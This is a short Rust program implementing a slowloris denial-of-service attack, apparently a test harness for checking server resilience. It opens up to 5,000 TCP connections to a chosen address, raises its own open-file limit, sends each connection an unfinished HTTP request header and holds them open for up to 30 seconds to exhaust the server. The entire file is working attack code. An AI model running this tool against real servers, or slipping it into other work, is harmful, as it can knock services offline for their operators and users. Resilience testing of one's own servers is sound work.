//! slowloris ADDR COUNT HOLD_MS
//!
//! A local user exhausting a server: opens up to COUNT (<= 5,000) TCP connections to ADDR, sends
//! each the start of a request's headers and never the end, holds them all for HOLD_MS
//! (<= 30,000), then closes them. Raises its own soft open-file limit to the hard one first
//! (an unprivileged user may). Prints one JSON line when the connections are open
//! ({"opened":N,"failed":M}) and one when it lets go ({"closed":N}).

use std::{
    io::Write,
    net::{SocketAddr, TcpStream},
    time::Duration,
};

fn main() {
    let args: Vec<String> = std::env::args().collect();
    if args.len() != 4 {
        eprintln!("usage: slowloris ADDR COUNT HOLD_MS");
        std::process::exit(2);
    }
    let addr: SocketAddr = args[1].parse().expect("ADDR");
    let count: usize = args[2].parse::<usize>().expect("COUNT").min(5000);
    let hold = Duration::from_millis(args[3].parse::<u64>().expect("HOLD_MS").min(30_000));
    let mut r = libc::rlimit {
        rlim_cur: 0,
        rlim_max: 0,
    };
    // SAFETY: getrlimit/setrlimit on a struct we own.
    unsafe {
        if libc::getrlimit(libc::RLIMIT_NOFILE, &mut r) == 0 {
            r.rlim_cur = r.rlim_max;
            libc::setrlimit(libc::RLIMIT_NOFILE, &r);
        }
    }
    let mut open = Vec::with_capacity(count);
    let mut failed = 0;
    for _ in 0..count {
        match TcpStream::connect_timeout(&addr, Duration::from_millis(500)) {
            Ok(mut s) => {
                let _ = s.write_all(b"GET /metrics HTTP/1.1\r\nHost: x\r\nX-Slow: ");
                open.push(s);
            }
            Err(_) => failed += 1,
        }
    }
    println!("{{\"opened\":{},\"failed\":{failed}}}", open.len());
    let _ = std::io::stdout().flush();
    std::thread::sleep(hold);
    println!("{{\"closed\":{}}}", open.len());
}
